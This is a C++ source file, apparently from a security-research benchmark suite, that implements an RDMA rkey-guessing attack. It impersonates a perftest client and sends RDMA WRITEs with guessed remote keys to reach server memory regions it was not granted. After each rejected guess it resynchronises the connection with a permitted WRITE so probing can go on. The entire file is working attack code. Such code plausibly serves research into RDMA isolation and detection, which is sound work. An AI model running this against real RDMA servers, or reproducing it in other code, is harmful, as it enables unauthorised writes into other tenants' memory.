#include "bench/attack/rkey_guess.hpp"

#include <unistd.h>

#include <chrono>
#include <random>
#include <thread>

#include "bench/attack/perftest_exchange.hpp"
#include "bench/attack/rc_qp.hpp"
#include "bench/attack/wall_clock.hpp"

namespace insert::attack {

namespace {

constexpr auto kCompletionLimit = std::chrono::seconds(5);

uint32_t psn_add(uint32_t psn, uint32_t n) {
    return (psn + n) & 0xFFFFFF;
}

}  // namespace

nlohmann::ordered_json run_rkey_guess(const RkeyGuessOptions& o, bool& ok) {
    nlohmann::ordered_json out;
    out["attack"] = "rkey_guess";
    out["pid"] = ::getpid();
    out["t_start_ns"] = wall_ns();
    ok = false;
    auto failed = [&](const std::string& what) {
        out["error"] = what;
        out["t_end_ns"] = wall_ns();
        return out;
    };

    RcQp qp;
    if (!qp.open(o.local_ip, 64 * 1024)) return failed(qp.error());
    out["src_ip"] = qp.local_ip();
    out["src_qpn"] = qp.qpn();
    out["dst_ip"] = o.server_ip;
    out["dst_port"] = o.port;

    PerftestClient oob;
    if (!oob.connect(o.server_ip, o.port,
                     std::chrono::milliseconds(static_cast<int64_t>(o.connect_timeout_s * 1000))))
        return failed(oob.error());
    if (!oob.setup(o.perftest_version, IBV_MTU_4096)) return failed(oob.error());

    // Our side of the exchange, as a perftest client describes itself.
    std::mt19937 rng(std::random_device{}());
    PerftestDest mine;
    mine.qpn = qp.qpn();
    mine.psn = rng() & 0xFFFFFF;
    mine.rkey = qp.rkey();
    mine.vaddr = qp.addr();
    mine.gid = qp.gid();
    PerftestDest server;
    if (!oob.hand_shake(mine, server)) return failed(oob.error());
    out["dst_qpn"] = server.qpn;
    out["advertised_rkey"] = server.rkey;
    out["va"] = server.vaddr;
    out["len"] = o.len;
    out["psn_first"] = mine.psn;

    const RcPeer peer{server.qpn, server.psn, server.gid};
    if (!qp.connect(peer, mine.psn)) return failed(qp.error());
    // Two more records before the data phase; the server's QP is ready after the first.
    PerftestDest ignored;
    for (int i = 0; i < 2; ++i)
        if (!oob.hand_shake(mine, ignored)) return failed(oob.error());

    nlohmann::ordered_json guesses = nlohmann::ordered_json::array();
    nlohmann::ordered_json tried = nlohmann::ordered_json::array();
    uint32_t psn = mine.psn;
    unsigned resyncs = 0, accepted = 0, rejected = 0, packets = 0;
    for (unsigned k = 1; k <= o.count; ++k) {
        const uint32_t rkey = server.rkey + k * o.step;
        ibv_wc wc{};
        const uint64_t t = wall_ns();
        if (!qp.write(k, server.vaddr, rkey, o.len, wc, kCompletionLimit))
            return failed(qp.error());
        ++packets;
        guesses.push_back(
            {{"rkey", rkey}, {"psn", psn}, {"t_ns", t}, {"status", ibv_wc_status_str(wc.status)}});
        tried.push_back(rkey);
        if (wc.status == IBV_WC_SUCCESS) {  // a guess that hit a region: the PSN advanced
            ++accepted;
            psn = psn_add(psn, 1);
            continue;
        }
        ++rejected;
        // The NAK left our QP in Error and the responder expecting `psn`: reconnect at
        // `psn` and fill it with a WRITE the server allows.
        if (!qp.connect(peer, psn)) return failed(qp.error());
        if (!qp.write(1000000 + k, server.vaddr, server.rkey, o.len, wc, kCompletionLimit))
            return failed(qp.error());
        ++packets;
        ++resyncs;
        if (wc.status != IBV_WC_SUCCESS)
            return failed(std::string("the WRITE with the advertised rkey failed: ") +
                          ibv_wc_status_str(wc.status));
        psn = psn_add(psn, 1);
    }
    out["rkeys_tried"] = tried;
    out["guesses"] = guesses;
    out["rejected"] = rejected;
    out["accepted"] = accepted;
    out["resync_writes"] = resyncs;
    out["packets_sent"] = packets;
    if (o.hold_s > 0)
        std::this_thread::sleep_for(
            std::chrono::milliseconds(static_cast<int64_t>(o.hold_s * 1000)));
    // Let the server finish as after an ordinary run (it prints a report and exits 0).
    if (!oob.finish(mine, o.len, o.count)) return failed(oob.error());
    out["t_end_ns"] = wall_ns();
    ok = true;
    return out;
}

}  // namespace insert::attack
